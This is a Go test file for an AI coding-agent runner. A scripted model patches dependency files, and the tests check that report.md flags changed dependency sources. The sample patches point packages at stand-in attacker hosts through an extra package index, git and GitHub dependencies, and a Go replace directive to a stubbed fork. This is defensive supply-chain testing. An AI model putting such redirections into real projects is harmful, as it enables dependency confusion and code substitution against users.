package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/frognano/frognano/internal/gittest"
	"github.com/frognano/frognano/runner/leaf/leaftest"
)

// TestRunShowsWhereDependenciesComeFrom is issue 28's section 2 as attacks through `frognano
// run`: a scripted model's patch changes where a dependency comes from in a way the listing
// did not follow, and report.md must open with it, worded plainly, and never call the
// package removed. The repository is pyaverage with a requirements.txt, a package.json and a
// go.mod at its base commit; each attack is one run (no tests: --test-cmd none).
func TestRunShowsWhereDependenciesComeFrom(t *testing.T) {
	t.Parallel()
	mod := "module example.com/pyaverage\n\ngo 1.21\n\nrequire github.com/google/go-cmp v0.7.0\n"
	for _, tc := range []struct {
		name  string
		files map[string]string // what the model writes
		want  []string          // in report.md, the first before the first section
		never []string          // nowhere in report.md
	}{
		{
			name:  "NewExtraIndexURL",
			files: map[string]string{"requirements.txt": "--extra-index-url https://pkgs.attacker.example/simple\nattrs==21.4.0\npytest==7.2.1\n"},
			want: []string{"> - `requirements.txt` sets `--extra-index-url` `https://pkgs.attacker.example/simple`: it adds a package index: " +
				"packages are looked for there too, and one published there under the name of a package this project uses can be installed instead of it (dependency confusion).",
				"- `requirements.txt` adds `--extra-index-url` `https://pkgs.attacker.example/simple`"},
		},
		{
			name: "RequirementMovedIntoAnIncludedFile",
			files: map[string]string{
				"requirements.txt": "-r deps/extra.in\npytest==7.2.1\n",
				"deps/extra.in":    "attrs @ git+https://git.attacker.example/attrs.git@main\n",
			},
			want: []string{"> - `attrs` in `deps/extra.in`: now from the repository `git+https://git.attacker.example/attrs.git@main`; it was `21.4.0` from its registry.",
				"| `attrs` | PyPI | `deps/extra.in` | `21.4.0` → from the repository `git+https://git.attacker.example/attrs.git@main` (was in `requirements.txt`) |"},
			never: []string{"removed `21.4.0`"},
		},
		{
			name: "GitDependencyInPackageJSON",
			files: map[string]string{"web/package.json": `{"name": "web", "version": "1.0.0", "dependencies": {"lodash": "^4.17.21",` +
				` "left-pad": "github:attacker/left-pad#main"}}`},
			want: []string{"> - `left-pad` in `web/package.json`: new, from the repository `github:attacker/left-pad#main`.",
				"| `left-pad` | npm | `web/package.json` | added from the repository `github:attacker/left-pad#main` |"},
		},
		{
			name: "GoReplaceByALocalFolder",
			files: map[string]string{
				"go.mod":                    mod + "\nreplace github.com/google/go-cmp => ./third_party/go-cmp\n",
				"third_party/go-cmp/go.mod": "module github.com/google/go-cmp\n\ngo 1.21\n",
				"third_party/go-cmp/cmp.go": "package cmp\n\nfunc Equal(x, y any) bool { return true }\n",
			},
			want: []string{"> - `github.com/google/go-cmp` (replace) in `go.mod`: new, from the local path `./third_party/go-cmp`.",
				"| `github.com/google/go-cmp` (replace) | Go | `go.mod` | added from the local path `./third_party/go-cmp` |"},
			never: []string{"removed `0.7.0`", "`./third_party/go-cmp` | Go"},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			repo := cliCheckout(t, "pyaverage")
			gittest.Write(t, repo, map[string]string{
				"requirements.txt": "attrs==21.4.0\npytest==7.2.1\n",
				"web/package.json": `{"name": "web", "version": "1.0.0", "dependencies": {"lodash": "^4.17.21"}}`,
				"go.mod":           mod,
			})
			gittest.Git(t, repo, "add", "-A")
			gittest.Git(t, repo, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "dependencies")

			var calls []leaftest.ToolCall
			for _, p := range sortedFiles(tc.files) {
				args, err := json.Marshal(map[string]string{"file_path": p, "content": tc.files[p]})
				if err != nil {
					t.Fatal(err)
				}
				calls = append(calls, leaftest.ToolCall{ID: "w" + p, Name: "Write", Arguments: leaftest.Arguments(args)})
			}
			model := leaftest.NewServer(t, leaftest.Script{Turns: []leaftest.Turn{
				{ToolCalls: calls},
				{Content: "Updated the dependencies."},
			}})
			out := filepath.Join(t.TempDir(), "out")
			var stdout, stderr bytes.Buffer
			err := run(context.Background(), []string{"run", "--repo", repo, "--task", "Update the dependencies.", "--out", out,
				"--executor", cliExecutor(t), "--test-cmd", "none"},
				envMap(map[string]string{"FROGNANO_MODEL_URL": model.URL, "FROGNANO_SANDBOX_MEMORY": "512m", "FROGNANO_SANDBOX_CPUS": "1"}),
				&stdout, &stderr)
			if err != nil {
				t.Fatalf("run: %v\nstderr:\n%s", err, stderr.String())
			}
			b, err := os.ReadFile(filepath.Join(out, "report.md"))
			if err != nil {
				t.Fatal(err)
			}
			report := string(b)
			caution := strings.Index(report, "**The patch changes where dependencies come from**")
			if caution < 0 || caution > strings.Index(report, "\n## ") {
				t.Errorf("report.md does not open with the change of source:\n%s", report)
			}
			for i, w := range tc.want {
				at := strings.Index(report, w)
				if at < 0 {
					t.Errorf("report.md lacks %q:\n%s", w, report)
				} else if i == 0 && at > strings.Index(report, "\n## ") {
					t.Errorf("%q is not at the top of report.md", w)
				}
			}
			for _, w := range tc.never {
				if strings.Contains(report, w) {
					t.Errorf("report.md holds %q:\n%s", w, report)
				}
			}
		})
	}
}

func sortedFiles(m map[string]string) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}
